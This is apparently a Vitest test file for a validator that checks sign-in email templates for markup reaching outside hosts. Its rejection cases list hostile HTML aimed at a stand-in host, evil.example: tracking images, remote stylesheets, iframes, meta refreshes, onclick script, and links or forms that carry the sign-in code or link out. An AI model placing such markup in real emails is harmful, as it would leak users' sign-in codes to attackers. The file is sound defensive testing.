import { expect, it } from 'vitest'
import { isSignInTemplate, wrongInSignInMail } from './sign-in-templates.ts'
import { builtInTemplates } from './templates/templates.ts'

it('counts mails whose link or code signs somebody in', () => {
  const keys = [...builtInTemplates().keys()].filter(isSignInTemplate).map((key) => key.replace(/_..$/, ''))
  expect(new Set(keys)).toEqual(
    new Set(['verification', 'password_reset', 'one_time_code', 'invitation', 'billing_invitation']),
  )
})

it('accepts the built-in mails', async () => {
  for (const [key, { html }] of builtInTemplates()) {
    if (isSignInTemplate(key)) expect(await wrongInSignInMail(html), key).toBeNull()
  }
})

it.each([
  '<p>Hello {{name}}</p><a href="{{ link }}">in</a><a href="https://acme.example">us</a>',
  '<img src="data:image/png;base64,AAAA">',
  '<p style="color: red">{{code}}</p>',
])('accepts %s', async (html) => {
  expect(await wrongInSignInMail(html)).toBeNull()
})

it.each([
  '<img src="https://evil.example/pixel.png">',
  '<IMG SRC=//evil.example/{{code}}>',
  '<img srcset="https://evil.example/a 2x">',
  '<table background="https://evil.example/a.png">',
  '<p style="background: URL (https://evil.example/a)">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<style>p { background: url(https://evil.example/a) }</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<svg><image xlink:href="https://evil.example/a.png"/></svg>',
  '<video poster="https://evil.example/a.png"></video>',
  '<form action="https://evil.example/"><input name="code"></form>',
  '<a href="https://evil.example/?next={{link}}">in</a>',
  '<a href="https://evil.example/{{code}}">in</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a onclick="alert(1)">in</a>',
  '<img src="data:image/svg+xml,<svg/>">',
])('refuses %s', async (html) => {
  expect(await wrongInSignInMail(html)).not.toBeNull()
})
